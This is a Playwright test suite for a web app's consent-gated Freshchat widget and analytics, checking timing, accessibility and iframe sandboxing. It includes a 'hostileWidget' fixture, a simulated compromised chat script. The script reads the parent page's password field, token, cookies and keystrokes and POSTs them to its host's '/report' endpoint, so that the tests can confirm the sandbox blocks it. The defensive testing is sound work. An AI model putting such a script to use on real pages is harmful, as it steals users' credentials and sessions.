import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from '@playwright/test'
import type { Words } from '@lustra/words'
import { expectAccessible } from './environment/accessibility.ts'
import { expect, test as base } from './environment/journey.ts'
import { looksFor } from './environment/languages.ts'
import type { JourneyServer } from './environment/server.ts'
import { SettingsPage } from './pages/SettingsPage.ts'
import { SignInPage } from './pages/SignInPage.ts'

interface Outside extends AsyncDisposable {
  readonly address: string
  readonly requests: { readonly path: string; readonly at: number; readonly body: string }[]
  /** The script that the server sends as the widget. */
  script: string
}

/** Freshchat and Google Analytics. */
async function startOutside(): Promise<Outside> {
  const server = createServer((request, response) => {
    let body = ''
    request.on('data', (chunk: Buffer) => (body += chunk.toString()))
    request.on('end', () => {
      outside.requests.push({ path: request.url ?? '', at: Date.now(), body })
      if (!request.url?.startsWith('/js/')) return response.writeHead(204).end()
      response.writeHead(200, {
        'content-type': 'text/javascript',
        'cross-origin-resource-policy': 'cross-origin',
      })
      response.end(outside.script)
    })
  })
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  const { port } = server.address() as AddressInfo
  const outside: Outside = {
    requests: [],
    script: widget,
    address: `http://127.0.0.1:${port}`,
    async [Symbol.asyncDispose]() {
      server.closeAllConnections()
      server.close()
      await once(server, 'close')
    },
  }
  return outside
}

const test = base.extend<{ freshchat: Outside; google: Outside }, { outside: Outside }>({
  // The address stays the same for the server's lifetime, because a page may still use a setting of the previous test.
  outside: [
    async ({}, use) => {
      await using outside = await startOutside()
      await use(outside)
    },
    { scope: 'worker' },
  ],
  freshchat: async ({ outside }, use) => use(Object.assign(outside, { script: widget, requests: [] })),
  google: async ({ outside }, use) => use(Object.assign(outside, { requests: [] })),
})

/** The widget is a text field with a button that closes it. */
const widget = `
const listeners = {}
const panel = document.createElement('section')
globalThis.fcWidget = {
  on(name, listener) { listeners[name] = listener },
  init({ token, locale, open }) {
    panel.hidden = !open
    panel.append(document.createElement('input'), document.createElement('button'))
    panel.lastChild.textContent = [token, locale].join(' ')
    panel.lastChild.onclick = () => { panel.hidden = true; listeners['widget:closed']() }
    document.body.append(panel)
  },
}`

/** A compromised script of Freshchat: it repeatedly reports what it can read and change. */
const hostileWidget = `
const { origin } = new URL(document.currentScript.src)
const field = document.createElement('input')
document.body.append(field)
const attempts = {
  'the password': () => parent.document.querySelector('input[name=password]').value,
  'the address of the page': () => parent.location.href,
  'the calls of the page': () => { parent.fetch = () => {}; return 'replaced' },
  'the storage of the page': () => parent.localStorage.getItem('lustra.token'),
  'its own storage': () => localStorage.getItem('lustra.token'),
  'its cookies': () => document.cookie,
  'typed keys': () => { if (field.value === '') throw new Error('none'); return field.value },
}
const report = (found) =>
  fetch(origin + '/report', { method: 'POST', mode: 'no-cors', body: JSON.stringify(found) })
setInterval(() => {
  globalThis.focus()
  field.focus()
  for (const chat of ['open', 'start', 'large']) parent.postMessage({ chat }, '*')
}, 20)
setInterval(() => {
  for (const [what, attempt] of Object.entries(attempts)) {
    try { report({ what, read: String(attempt()) }) } catch { report({ what, read: null }) }
  }
  fetch(location.origin + '/web/api/v1/version', { method: 'POST', body: '{}' })
    .then((reply) => reply.text())
    .then((read) => report({ what: 'a call of its own', read }), () => report({ what: 'a call of its own', read: null }))
}, 300)
globalThis.fcWidget = { on() {}, init() {} }`

/** It needs storage, which a frame without an origin does not have. */
const storingWidget = `
globalThis.fcWidget = { on() {}, init() { localStorage.setItem('visitor', '1') } }`

/** Opens the page of the chat in a frame that the application did not create. */
async function frameChat(page: Page): Promise<void> {
  await page.evaluate(
    () =>
      new Promise((resolve) => {
        const frame = document.createElement('iframe')
        frame.addEventListener('load', resolve)
        frame.src = '/web/chat'
        document.body.append(frame)
      }),
  )
}

/** Opens the sign-in page with consent to the chat, and waits for its button. */
async function switchOnChat(page: Page, words: Words, server: JourneyServer, address: string): Promise<void> {
  await server.setSettings({
    freshchat_url: address,
    freshchat_token: 'a-token',
    freshchat_enabled: 'true',
  })
  await page.addInitScript(() => {
    // A frame without an origin has no storage.
    if (window === top) localStorage.setItem('lustra.consent', 'chat=yes')
  })
  const reply = await page.goto('/web/login')
  expect(reply!.headers()['content-security-policy']).toContain('frame-src')
  await expect(page.getByRole('button', { name: words.consent.chat })).toBeVisible()
}

const overflowOf = (page: Page) => page.evaluate(() => document.documentElement.scrollWidth - innerWidth)

for (const [language, theme] of looksFor('ru')) {
  test.describe(`in ${language}`, () => {
    test.use({ language, theme })
    test.describe.configure({ timeout: 120_000 })

    test.describe(() => {
      // The address of the chat's frame has no page of its own.
      test.use({ signedIn: false, expectedErrors: [/status of 404/] })

      test('the chat’s button appears 1.5 seconds after the page and only with consent, and its frame after a press (ACC-002, ADM-085, INT-050, INT-051, INT-N17, INT-N35)', async ({
        page,
        words,
        server,
        freshchat,
      }) => {
        const { consent: texts } = words
        const question = page.getByRole('region', { name: texts.question })
        await page.goto('/web/login')
        await expect(page.getByText(/Lustra \d/)).toBeVisible()
        await expect(question).toBeHidden()

        await server.setSettings({
          freshchat_url: freshchat.address,
          freshchat_token: 'a-token',
          freshchat_enabled: 'true',
        })
        await page.goto('/web/login')
        await expect(question).toBeVisible()
        await expect(question).toContainText(texts.about.chat)
        await expect(question).not.toContainText(texts.about.analytics)
        await expectAccessible(page, 'main')

        for (const viewport of [
          { width: 1440, height: 900 },
          { width: 390, height: 844 },
        ]) {
          await page.setViewportSize(viewport)
          expect(await overflowOf(page), 'pixels beyond the width').toBeLessThanOrEqual(0)
          // A covered control could not be clicked.
          for (const control of await page.getByRole('main').getByRole('button', { disabled: false }).all()) {
            await control.click({ trial: true })
          }
          for (const link of await page.getByRole('main').getByRole('link').all()) {
            await link.click({ trial: true })
          }
        }
        await page.waitForTimeout(2000)
        expect(freshchat.requests).toEqual([])

        // By keyboard: refuse, reload, and change the answer.
        await page.getByRole('button', { name: texts.refuse }).press('Enter')
        await expect(page.getByRole('button', { name: texts.change })).toBeFocused()
        await page.goto('/web/register')
        await expect(page.getByText(texts.states.chat.off)).toBeVisible()
        await expect(question).toBeHidden()
        await page.waitForTimeout(2000)
        expect(freshchat.requests).toEqual([])
        await frameChat(page)
        await page.waitForTimeout(500)
        expect(freshchat.requests, 'without consent').toEqual([])
        await page.goto('/web/register')
        await page.getByRole('button', { name: texts.change }).press('Enter')
        await expect(page.getByRole('button', { name: texts.allow, exact: true })).toBeFocused()
        await page.keyboard.press('Enter')
        await expect(page.getByText(texts.states.chat.on)).toBeVisible()
        const button = page.getByRole('button', { name: texts.chat })
        const dialog = page.getByRole('dialog', { name: texts.chat })
        const frame = page.frameLocator(`iframe[title="${texts.chat}"]`)
        await expect(button).toBeVisible()

        for (const path of ['/web/login', '/web/register', '/web/reset-password']) {
          const openedAt = Date.now()
          await page.goto(path)
          await expect(button).toBeVisible()
          expect(Date.now() - openedAt).toBeGreaterThanOrEqual(1500)
          const focused = await page.evaluate(() => document.activeElement?.outerHTML)
          await page.waitForTimeout(500)
          expect(freshchat.requests, 'before a press').toEqual([])
          await expect(page.locator('iframe')).toHaveCount(0)
          expect(await page.evaluate(() => document.activeElement?.outerHTML)).toBe(focused)
        }
        await button.press('Enter')
        await expect(frame.getByRole('button', { name: `a-token ${language}` })).toBeVisible()
        expect(freshchat.requests).toHaveLength(1)
        await expect(page.locator('iframe')).toBeFocused()
        await expect(dialog).toContainText(texts.chatEnds)
        await expectAccessible(page, '[role=dialog]')
        for (const [width, height] of [
          [1440, 900],
          [390, 844],
        ] as const) {
          await page.setViewportSize({ width, height })
          expect(await overflowOf(page), 'pixels beyond the width').toBeLessThanOrEqual(0)
          await expect(dialog.getByRole('button', { name: words.ui.close })).toBeInViewport({ ratio: 1 })
          await frame.getByRole('textbox').fill(`${width}`)
        }
        // A press outside does not end the conversation.
        await page.mouse.click(5, 5)
        await expect(frame.getByRole('textbox')).toHaveValue('390')
        await frame.getByRole('button').click()
        await expect(dialog).toBeHidden()
        await expect(page.locator('iframe')).toHaveCount(0)
        await expect(button).toBeFocused()
        await button.click()
        await expect(frame.getByRole('button')).toBeVisible()
        await dialog.getByRole('button', { name: words.ui.close }).press('Enter')
        await expect(dialog).toBeHidden()
        await expect(button).toBeFocused()

        const link = page.getByRole('link', { name: texts.chatWindow })
        await expect(link).toHaveAttribute('target', '_blank')
        await expect(link).toHaveAttribute('rel', /noopener/)
        const { status, location } = await page.request
          .get((await link.getAttribute('href'))!, { maxRedirects: 0 })
          .then((reply) => ({ status: reply.status(), location: reply.headers()['location']! }))
        expect([status, new URL(location).origin]).toEqual([302, freshchat.address])

        // Other pages and the chat's own address have no chat.
        freshchat.requests.length = 0
        expect((await page.goto('/web/chat'))!.status()).toBe(404)
        await page.goto('/web/privacy')
        await page.waitForTimeout(2000)
        await expect(page.locator('iframe')).toHaveCount(0)
        expect(freshchat.requests).toEqual([])
        await page.goto('/web/login')
        await expect(button).toBeVisible()
        await server.setSettings({ freshchat_enabled: 'false' })
      })

      test('the chat’s button appears exactly after 1.5 seconds (ACC-002, INT-050)', async ({
        page,
        words,
        server,
        freshchat,
      }) => {
        const stepMs = 5
        await switchOnChat(page, words, server, freshchat.address)
        await page.clock.install()
        const button = page.getByRole('button', { name: words.consent.chat })
        for (const path of ['/web/login', '/web/register', '/web/reset-password']) {
          await page.clock.pauseAt(await page.evaluate(() => Date.now() + 3_600_000))
          await page.goto(path)
          // The page needs its clock for rendering, so at most two steps have passed when it is visible.
          await expect(async () => {
            await page.clock.runFor(stepMs)
            await expect(page.getByText(words.consent.states.chat.on)).toBeVisible({ timeout: 200 })
          }).toPass({ timeout: 20_000 })
          await page.clock.runFor(1499 - 2 * stepMs)
          await expect(button).toHaveCount(0)
          await page.clock.runFor(1 + 2 * stepMs)
          await expect(button).toBeVisible()
        }
        await page.clock.resume()
        await server.setSettings({ freshchat_enabled: 'false' })
      })

      test.describe(() => {
        test.use({ viewport: { width: 390, height: 844 }, hasTouch: true, isMobile: true })

        test('by touch, the chat is opened and closed (ACC-002, INT-N35)', async ({
          page,
          words,
          server,
          freshchat,
        }) => {
          const { consent: texts } = words
          await switchOnChat(page, words, server, freshchat.address)
          await page.getByRole('button', { name: texts.chat }).tap()
          const frame = page.frameLocator('iframe')
          await frame.getByRole('textbox').tap()
          await expect(frame.getByRole('textbox')).toBeFocused()
          await page.getByRole('dialog').getByRole('button', { name: words.ui.close }).tap()
          await expect(page.locator('iframe')).toHaveCount(0)
          await server.setSettings({ freshchat_enabled: 'false' })
        })
      })

      test('sign-in reloads the page after the chat was used (INT-N17)', async ({
        page,
        words,
        server,
        person,
        freshchat,
      }) => {
        await switchOnChat(page, words, server, freshchat.address)
        await page.getByRole('button', { name: words.consent.chat }).click()
        await expect(page.frameLocator('iframe').getByRole('button')).toBeVisible()
        await page.getByRole('dialog').getByRole('button', { name: words.ui.close }).click()
        await page.evaluate(() => Object.assign(window, { isFormerPage: true }))
        await new SignInPage(page, words).logIn(person.email, person.password)
        await expect(page).toHaveURL(/dashboard/)
        await expect(page.locator('iframe')).toHaveCount(0)
        expect(page.frames()).toHaveLength(1)
        expect(await page.evaluate(() => 'isFormerPage' in window)).toBe(false)
        freshchat.requests.length = 0
        await frameChat(page)
        await page.waitForTimeout(500)
        expect(freshchat.requests, 'with a session').toEqual([])
        await server.setSettings({ freshchat_enabled: 'false' })
      })
    })
  })
}

for (const [language, theme] of looksFor('ru')) {
  test.describe(`in ${language}`, () => {
    test.use({ language, theme })
    test.describe.configure({ timeout: 120_000 })

    test.describe(() => {
      // Messages of the browser about blocked scripts of the chat.
      test.use({
        signedIn: false,
        expectedErrors: [/\/web\/chat|sandbox|Content Security Policy|localStorage|\/web\/api/],
      })

      test('a hostile widget opens nothing, takes neither focus nor keys, reads nothing of the page, and gets no token after the sign-in (INT-N17, INT-N35)', async ({
        page,
        words,
        server,
        person,
        freshchat,
      }) => {
        freshchat.script = hostileWidget
        await switchOnChat(page, words, server, freshchat.address)
        const signIn = new SignInPage(page, words)
        const button = page.getByRole('button', { name: words.consent.chat })
        const dialog = page.getByRole('dialog')
        const frame = page.locator('iframe')
        const reports = () =>
          freshchat.requests
            .filter(({ path }) => path === '/report')
            .map(({ body }) => JSON.parse(body) as { what: string; read: string | null })
        const typePassword = async () => {
          await signIn.password.fill('')
          await signIn.password.pressSequentially(person.password, { delay: 30 })
          await expect(signIn.password).toHaveValue(person.password)
          await expect(signIn.password).toBeFocused()
          await expect(frame).toHaveCount(0)
        }
        await typePassword()
        expect(freshchat.requests, 'before a press').toEqual([])

        await button.click()
        await expect
          .poll(() => reports().filter(({ what }) => what === 'the password').length)
          .toBeGreaterThan(2)
        await expect.poll(() => reports().some(({ what }) => what === 'a call of its own')).toBe(true)
        expect(await page.evaluate(() => String(fetch))).toContain('[native code]')
        const { width, height } = (await frame.boundingBox())!
        expect(width * height, 'of 1280 by 800 pixels').toBeLessThan(1280 * 400)
        // While its frame exists, no field of the page can receive keys.
        expect(await signIn.password.evaluate((field) => field.closest('[inert]') !== null)).toBe(true)

        await dialog.getByRole('button', { name: words.ui.close }).click()
        await typePassword()
        await new SignInPage(page, words).logIn(person.email, person.password)
        await expect(page).toHaveURL(/dashboard/)
        expect(page.frames()).toHaveLength(1)
        freshchat.requests.push({ path: 'signed in', at: Date.now(), body: '' })
        await page.waitForTimeout(1500)
        expect(reports().filter(({ read }) => read !== null)).toEqual([])
        const after = freshchat.requests.findIndex(({ path }) => path === 'signed in')
        // Requests that were under way when the page ended.
        const late = freshchat.requests
          .slice(after)
          .filter(({ at }) => at - freshchat.requests[after]!.at > 500)
        expect(late).toEqual([])
        await server.setSettings({ freshchat_enabled: 'false' })
      })

      test('for a widget that needs storage, a link opens it in a separate window (ACC-002, INT-050)', async ({
        page,
        words,
        server,
        freshchat,
      }) => {
        freshchat.script = storingWidget
        await switchOnChat(page, words, server, freshchat.address)
        await page.getByRole('button', { name: words.consent.chat }).click()
        const dialog = page.getByRole('dialog')
        await expect(dialog).toContainText(words.consent.chatFailed)
        await expect(page.locator('iframe')).toHaveCount(0)
        await expect(dialog.getByRole('link', { name: words.consent.chatWindow })).toBeVisible()
        await dialog.getByRole('button', { name: words.ui.close }).click()
        await expect(page.getByRole('link', { name: words.consent.chatWindow })).toBeVisible()
        await server.setSettings({ freshchat_enabled: 'false' })
      })
    })

    test('pages are counted only with consent, which can be changed in the settings (ADM-108, INT-014, INT-N17)', async ({
      page,
      words,
      server,
      google,
    }) => {
      const { consent: texts } = words
      const settings = new SettingsPage(page, words)
      const allow = page.getByRole('switch', { name: texts.switches.analytics })
      await settings.open()
      await expect(allow).toBeHidden()

      await server.setSettings({
        google_analytics_url: google.address,
        google_analytics_id: 'G-TEST1',
        google_analytics_secret: 'a secret',
        google_analytics_enabled: 'true',
      })
      await settings.open()
      await expect(allow).toBeVisible()
      const counted: string[] = []
      page.on('request', (request) => {
        if (request.url().endsWith('/v2/analytics')) counted.push(request.url())
      })
      await page.goto('/web/tasks')
      await page.getByRole('main').waitFor()
      await settings.open()
      expect([counted, google.requests]).toEqual([[], []])

      await expect(allow).not.toBeChecked()
      await allow.click()
      await expect(allow).toBeChecked()
      await expectAccessible(page, 'main')
      await page.setViewportSize({ width: 390, height: 844 })
      expect(await overflowOf(page), 'pixels beyond the width of a phone').toBeLessThanOrEqual(0)
      const pages = () =>
        google.requests.flatMap(({ body }) =>
          (JSON.parse(body) as { events: { params: { page_location: string } }[] }).events.map(
            ({ params }) => new URL(params.page_location).pathname,
          ),
        )
      await expect.poll(pages).toEqual(['/web/settings'])
      await page.goto('/web/inbox')
      await expect.poll(pages).toEqual(['/web/settings', '/web/inbox'])

      await settings.open()
      await expect.poll(() => pages().length).toBe(3)
      await allow.click()
      await expect(allow).not.toBeChecked()
      expect(await page.evaluate(() => localStorage.getItem('lustra.analytics-id'))).toBeNull()
      await page.goto('/web/inbox')
      await page.getByRole('main').waitFor()
      await page.waitForTimeout(1000)
      expect(pages()).toHaveLength(3)

      await settings.open()
      await allow.click()
      await expect(allow).toBeChecked()
      await settings.undo.click()
      await expect(allow).not.toBeChecked()
      await server.setSettings({ google_analytics_enabled: 'false' })
    })
  })
}
